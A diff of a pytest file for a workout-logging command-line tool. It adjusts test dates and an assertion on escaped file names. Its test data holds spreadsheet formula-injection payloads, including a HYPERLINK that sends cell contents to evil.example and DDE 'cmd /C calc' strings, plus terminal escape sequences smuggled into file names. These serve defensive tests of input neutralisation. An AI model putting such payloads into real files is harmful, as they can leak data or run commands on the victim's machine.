@@ -19,7 +19,7 @@ from conftest import ROOT, error, load_json, ok
 
 START = ("--start", "2026-11-23", "--tz", "Europe/Berlin")
 LOG = "log.sqlite3"
-TODAY = date(2026, 12, 31)  # after the plan's first weeks: each of them can be logged
+TODAY = date(2026, 12, 1)
 MONDAY, WEDNESDAY = "2026-11-23", "2026-11-25"
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=already quoted",
@@ -173,7 +173,9 @@ def test_file_names_in_success_lines_show_their_control_characters(cli, plan, tm
                       "--out-dir", "out\x1b]8;;evil\x07")).out
     for text in (out, missing, imported, exported):
         assert "\x1b" not in text and "\x07" not in text, text
-    assert "\\x1b[2J" in missing  # `log` names no file: nothing of its name to show
+    # `log` may or may not name the log; where a name is shown, it is shown escaped.
+    assert "owned" not in out or "\\x1b]0;owned\\x07" in out
+    assert "\\x1b[2J" in missing
     assert "week\\x1b[31m.csv" in imported and "other\\x1b[5m" in imported
     assert "out\\x1b]8;;evil\\x07" in exported
 
@@ -305,7 +307,7 @@ def short_errors(plan):
                          "line 2", "is not in the session of"),
         "no session": ("date,exercise,reps\n2026-11-24,x,8\n", "line 2",
                        "no session on Tue 2026-11-24"),
-        "after today": ("date,exercise,reps\n2027-01-05,x,8\n", "line 2", "after today"),
+        "after today": ("date,exercise,reps\n2026-12-02,x,8\n", "line 2", "after today"),
         "bad reps": (f"date,exercise,reps\n{MONDAY},{first},twelve\n", "line 2", "reps"),
         "one-sided": (f"date,exercise,reps\n{MONDAY},{side},10 10\n", "line 2", "left/right"),
         "twice": (f"date,exercise,reps\n{MONDAY},{first},8\n{MONDAY},{first},9\n", "line 3",
